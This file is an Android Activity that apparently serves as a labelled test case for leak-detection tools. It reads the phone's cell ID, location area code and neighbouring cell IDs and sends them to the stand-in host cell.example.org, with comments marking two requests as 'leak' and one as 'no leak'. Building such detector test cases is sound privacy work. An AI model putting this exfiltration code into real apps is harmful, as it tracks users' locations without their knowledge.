package ways;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.CellInfo;
import android.telephony.CellInfoGsm;
import android.telephony.CellInfoLte;
import android.telephony.TelephonyManager;
import android.telephony.gsm.GsmCellLocation;
import java.net.URL;
import java.util.Formatter;
import java.util.List;

/** The cell tells the place. */
public class CellPlace extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        new Thread(() -> {
            try {
                GsmCellLocation cell = (GsmCellLocation) phone.getCellLocation();
                Formatter text = new Formatter();
                text.format("%d-%d", cell.getCid(), cell.getLac());
                new URL("http://cell.example.org/a?c=" + text).openStream(); // leak
                List<CellInfo> all = phone.getAllCellInfo();
                long sum = 0;
                for (CellInfo one : all) {
                    if (one instanceof CellInfoLte) sum = ((CellInfoLte) one).getCellIdentity().getCi();
                    else if (one instanceof CellInfoGsm) sum = ((CellInfoGsm) one).getCellIdentity().getCid();
                }
                new URL("http://cell.example.org/b?c=" + Long.toHexString(sum)).openStream(); // leak
                Formatter none = new Formatter();
                none.format("%d", 7);
                new URL("http://cell.example.org/c?c=" + none).openStream(); // no leak
            } catch (Exception e) {
                finish();
            }
        }).start();
    }
}
